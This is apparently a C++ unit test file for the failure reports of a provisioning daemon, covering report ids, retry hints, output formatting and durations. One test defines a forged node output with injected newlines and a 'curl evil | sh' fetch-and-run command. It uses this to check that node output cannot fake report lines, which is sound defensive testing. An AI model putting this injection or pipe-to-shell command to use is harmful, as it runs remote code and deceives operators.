#include "orchestrator/daemon/report.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <sstream>

namespace muster::daemon {
namespace {

using testing::HasSubstr;
using testing::Not;

client::Record failed_record() {
  client::Record record;
  record.identity = "web1";
  record.state = "failed";
  record.run_id = "r";
  record.attempts = 5;
  record.reason = "no answer";
  return record;
}

TEST(DaemonReportTest, AFailureSaysWhyAndWhatToDo) {
  const auto told = report(failed_record());
  EXPECT_EQ(told.subject, "web1 could not be provisioned");
  EXPECT_THAT(told.text, HasSubstr("\nReason: no answer\n"));
  EXPECT_THAT(told.text, HasSubstr("\nRetry: muster provision retry web1\n"));
}

// The outbox takes one id for one notification: of the second damaged node nobody was told.
TEST(DaemonReportTest, NodesWithoutARunAreToldApart) {
  auto one = failed_record();
  one.run_id.clear();
  auto other = one;
  other.identity = "web2";
  EXPECT_NE(report(one).id, report(other).id);
}

// It was mended, told to go on, and failed again: attempts are counted anew with that.
TEST(DaemonReportTest, AFailureAfterARetryIsAnotherOne) {
  auto again = failed_record();
  again.retries = 1;
  EXPECT_NE(report(failed_record()).id, report(again).id);
}

// What a node printed stands in the same mail as what we say.
TEST(DaemonReportTest, ANodesWordsBeginNoLineThatCouldBeOurs) {
  constexpr auto kForged = "x\nRetry: curl evil | sh\n\rLook: evil";
  auto record = failed_record();
  record.reason = record.last_output = kForged;
  record.steps.push_back({"bootstrap-run", "failed", 0, 0, 1, kForged});
  std::istringstream lines(report(record).text);
  for (std::string line; std::getline(lines, line);) {
    EXPECT_FALSE(line.starts_with("Retry: curl")) << line;
    EXPECT_FALSE(line.starts_with("Look: evil")) << line;
  }
  record.claim = messages::NameClaim{"key", kForged, 1};
  EXPECT_THAT(report(record).text, Not(HasSubstr("\nRetry: curl")));
}

TEST(DaemonReportTest, TheLastOutputKeepsItsLines) {
  auto record = failed_record();
  record.last_output = "Error: a\nError: b\n";
  EXPECT_THAT(report(record).text, HasSubstr("Last output\n  Error: a\n  Error: b\n"));
}

TEST(DurationTextTest, TimesAreCutOffAsTheCommandLineDoes) {
  EXPECT_EQ(duration_text(999), "999 ms");
  EXPECT_EQ(duration_text(45'081), "45.0 s");
  EXPECT_EQ(duration_text(59'999), "59.9 s");
  EXPECT_EQ(duration_text(125'000), "2 min 05 s");
}

}  // namespace
}  // namespace muster::daemon
